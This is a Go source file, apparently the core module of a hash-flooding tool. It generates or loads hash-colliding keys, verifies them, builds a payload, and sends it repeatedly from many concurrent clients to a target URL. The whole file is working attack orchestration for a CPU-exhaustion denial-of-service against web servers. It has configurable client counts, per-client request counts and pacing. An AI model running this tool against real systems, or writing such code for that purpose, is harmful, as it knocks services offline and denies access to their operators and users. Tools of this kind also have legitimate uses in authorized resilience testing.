// Package core runs a hash-flooding injection: it obtains colliding keys and
// posts them to the target from concurrent clients.
package core

import (
	"context"
	"errors"
	"fmt"

	"github.com/rafabd1/hashes/internal/algorithm"
	"github.com/rafabd1/hashes/internal/collision"
	"github.com/rafabd1/hashes/internal/config"
	"github.com/rafabd1/hashes/internal/input"
	"github.com/rafabd1/hashes/internal/networking"
	"github.com/rafabd1/hashes/internal/output"
	"github.com/rafabd1/hashes/internal/progress"
	"github.com/rafabd1/hashes/internal/report"
	"github.com/rafabd1/hashes/internal/utils"
)

// Injector orchestrates one run.
type Injector struct {
	config *config.Config
	logger utils.Logger
	reader *input.Reader
}

// NewInjector creates an Injector. cfg must already be validated.
func NewInjector(cfg *config.Config, logger utils.Logger) *Injector {
	return &Injector{
		config: cfg,
		logger: logger,
		reader: input.NewReader(),
	}
}

// Run obtains the keys, optionally saves them and, when a target is set,
// sends them. Per-request failures are counted in the summary; only a failure
// to obtain keys or a cancelled ctx makes Run return an error.
func (inj *Injector) Run(ctx context.Context) (report.Summary, error) {
	alg, keys, err := inj.Keys(ctx)
	if err != nil {
		return report.Summary{}, err
	}

	if inj.config.SaveKeysFile != "" {
		if err := report.SaveKeys(inj.config.SaveKeysFile, keys, inj.config.SaveKeysFormat); err != nil {
			return report.Summary{}, fmt.Errorf("failed to save keys: %w", err)
		}
		inj.logger.Infof("Saved %d keys to %s", len(keys), inj.config.SaveKeysFile)
	}

	payload := networking.BuildPayload(keys)
	reporter := report.NewReporter(alg.Name(), len(keys), len(payload))
	if inj.config.TargetURL == "" {
		return reporter.Summary(), nil
	}

	err = inj.inject(ctx, payload, reporter)
	return reporter.Summary(), err
}

// Keys returns the colliding keys for this run and the algorithm they collide
// under. Keys loaded from a file are verified like generated ones.
func (inj *Injector) Keys(ctx context.Context) (algorithm.HashAlgorithm, []string, error) {
	if err := ctx.Err(); err != nil {
		return nil, nil, err
	}

	if inj.config.KeysFile != "" {
		alg, err := algorithm.Lookup(inj.config.Algorithm)
		if err != nil {
			return nil, nil, err
		}
		keys, err := inj.reader.ReadKeysFromFile(inj.config.KeysFile)
		if err != nil {
			return nil, nil, fmt.Errorf("failed to load keys: %w", err)
		}
		if len(keys) > inj.config.NumberOfKeys {
			keys = keys[:inj.config.NumberOfKeys]
		}
		if err := collision.Verify(alg, keys); err != nil {
			return nil, nil, fmt.Errorf("keys in %s: %w", inj.config.KeysFile, err)
		}
		inj.logger.Infof("Loaded %d %s keys from %s", len(keys), alg.Name(), inj.config.KeysFile)
		return alg, keys, nil
	}

	gen, err := collision.New(collision.Settings{
		Algorithm: inj.config.Algorithm,
		Fresh:     inj.config.GenerateNewKeys,
		Seed:      inj.config.Seed,
		Workers:   inj.config.MITMWorkers,
	}, inj.logger)
	if err != nil {
		return nil, nil, err
	}

	inj.logger.Infof("Generating %d %s keys", inj.config.NumberOfKeys, gen.Algorithm().Name())
	var monitor progress.Monitor = progress.Nop
	if inj.config.ProgressBar {
		bar := output.NewProgressBar(inj.config.NumberOfKeys, "Generating keys")
		bar.Start()
		defer bar.Finish()
		monitor = bar
	}

	keys, err := gen.Generate(inj.config.NumberOfKeys, monitor)
	if err != nil {
		return nil, nil, err
	}
	if len(keys) < inj.config.NumberOfKeys {
		inj.logger.Warnf("Only %d of the %d requested keys are available for %s", len(keys), inj.config.NumberOfKeys, gen.Algorithm().Name())
	}
	if err := collision.Verify(gen.Algorithm(), keys); err != nil {
		return nil, nil, err
	}
	return gen.Algorithm(), keys, nil
}

// inject starts one goroutine per client on the worker pool. Each client
// sends RequestsPerClient requests with the same payload.
func (inj *Injector) inject(ctx context.Context, payload string, reporter *report.Reporter) error {
	pacer := networking.NewPacer(inj.config.RequestsPerSecond, inj.logger)
	inj.logger.Infof("Run %s: %d clients x %d requests, %d bytes each, to %s",
		reporter.RunID(), inj.config.NumberOfClients, inj.config.RequestsPerClient, len(payload), inj.config.TargetURL)

	jobs := make([]utils.Job[int], inj.config.NumberOfClients)
	for i := range jobs {
		clientID := i
		jobs[i] = func(ctx context.Context) (int, error) {
			client, err := networking.NewClient(inj.config, pacer, inj.logger)
			if err != nil {
				return 0, err
			}
			sent := 0
			for r := 0; r < inj.config.RequestsPerClient; r++ {
				if ctx.Err() != nil {
					break
				}
				resp := client.Send(ctx, payload)
				if errors.Is(resp.Err, context.Canceled) && ctx.Err() != nil {
					break
				}
				reporter.Record(resp.StatusCode, resp.BytesReceived, resp.Duration, resp.Err)
				if resp.Err != nil {
					inj.logger.Warnf("Client %d request %d: %v", clientID, r+1, resp.Err)
				}
				sent++
			}
			return sent, nil
		}
	}

	sent, err := utils.RunAll(ctx, len(jobs), jobs)
	if err != nil {
		return err
	}
	if err := ctx.Err(); err != nil {
		return err
	}
	total := 0
	for _, n := range sent {
		total += n
	}
	inj.logger.Debugf("All %d clients finished after %d requests", len(sent), total)
	return nil
}
